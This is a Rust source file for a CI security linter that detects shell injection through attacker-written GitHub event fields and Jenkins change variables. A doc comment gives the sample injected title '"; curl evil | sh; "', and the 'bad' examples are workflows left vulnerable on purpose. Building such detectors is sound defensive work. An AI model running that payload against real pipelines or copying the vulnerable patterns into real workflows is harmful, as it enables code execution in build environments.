use crate::checks::prelude::*;

check! {
    /// A text that strangers write is put into a script before a shell reads it.
    ///
    /// ## What it checks
    /// Expressions in `run`, and in `script` of `actions/github-script`: titles, bodies and names of branches,
    /// commits and authors of events; in Jenkinsfiles the branch and title of a change.
    /// ## Why it matters
    /// A title such as `"; curl evil | sh; "` runs as a command of the pipeline.
    /// ## Fix
    /// Put the expression into `env` of the step and use the variable, quoted: `"$TITLE"`.
    "expression-injection",
    layer: Layer::Build,
    gain: Gain::Workload,
    barrier: Barrier::Nothing,
    confidence: Confidence::High,
    controls: &["protect-build-environment", "lint-scripts"],
    ids: &["attack:T1059.004", "attack:T1677"],
    bad: &[
        Example::Tree(&[(".github/workflows/ci.yml", r#"
on: [issue_comment]
permissions: {contents: read}
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: echo "${{ github.event.comment.body }}"
"#)]),
        Example::Tree(&[("Jenkinsfile", r#"pipeline { agent any
 stages { stage("x") { steps { sh "git checkout ${env.CHANGE_BRANCH}" } } } }"#)]),
    ],
    good: &[
        Example::Tree(&[(".github/workflows/ci.yml", r#"
on: [issue_comment]
permissions: {contents: read}
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: echo "$TITLE"
        env: {TITLE: "${{ github.event.comment.body }}"}
      - run: echo ${{ github.event.pull_request.head.sha }}
      - run: gh cache list --ref "${{ github.event.repository.default_branch }}"
"#)]),
    ],
}

/// The ends of paths below `github.event` that others write, and others' own names.
const WRITTEN: &[&str] = &[
    ".title",
    ".body",
    ".head.ref",
    ".head.label",
    ".head.repo.default_branch",
    ".page_name",
    ".message",
    ".author.name",
    ".author.email",
    ".head_branch",
    ".display_title",
    ".head_commit.author.name",
];

fn is_written_by_others(expression: &str) -> bool {
    let cleaned = expression.replace(' ', "");
    // A comparison or the test of a text is no text.
    if ["==", "!=", "contains(", "startsWith(", "toJSON(", "hashFiles("]
        .iter()
        .any(|mark| cleaned.contains(mark))
    {
        return cleaned.contains("toJSON(github.event)");
    }
    let names = cleaned.split(|c: char| !(c.is_ascii_alphanumeric() || "._*-[]".contains(c)));
    names.into_iter().any(|name| {
        name == "github.head_ref"
            || name.starts_with("github.event.") && WRITTEN.iter().any(|end| name.ends_with(end))
            || matches!(
                name.trim_start_matches("env."),
                "CHANGE_BRANCH"
                    | "CHANGE_TITLE"
                    | "CHANGE_AUTHOR"
                    | "CHANGE_AUTHOR_DISPLAY_NAME"
                    | "CHANGE_FORK"
                    | "ghprbPullTitle"
                    | "ghprbSourceBranch"
            )
    })
}

fn check(see: &See, it: &Pipeline) -> Judged {
    let jobs = see.get(&it.jobs)?;
    each(see, jobs, |see, job| {
        each(see, see.get(&job.steps)?, |see, step| {
            let mut found = Vec::new();
            for (expression, at) in see.get(&step.expressions)? {
                if is_written_by_others(expression) {
                    found.push(Fault {
                        what: format!("puts {expression} into a script's text"),
                        at: Some(at.clone()),
                    });
                }
            }
            let uses = see.get(&step.uses)?.as_ref().map_or("", |uses| uses.text.as_str());
            if uses.starts_with("actions/github-script@")
                && let Some(script) = see.get(&step.with)?.get("script")
            {
                let inner =
                    script.text.split("${{").skip(1).filter_map(|rest| Some(rest.split_once("}}")?.0.trim()));
                found.extend(inner.filter(|e| is_written_by_others(e)).map(|expression| Fault {
                    what: format!("puts {expression} into a script's text"),
                    at: script.at.clone(),
                }));
            }
            faults(found)
        })
    })
}
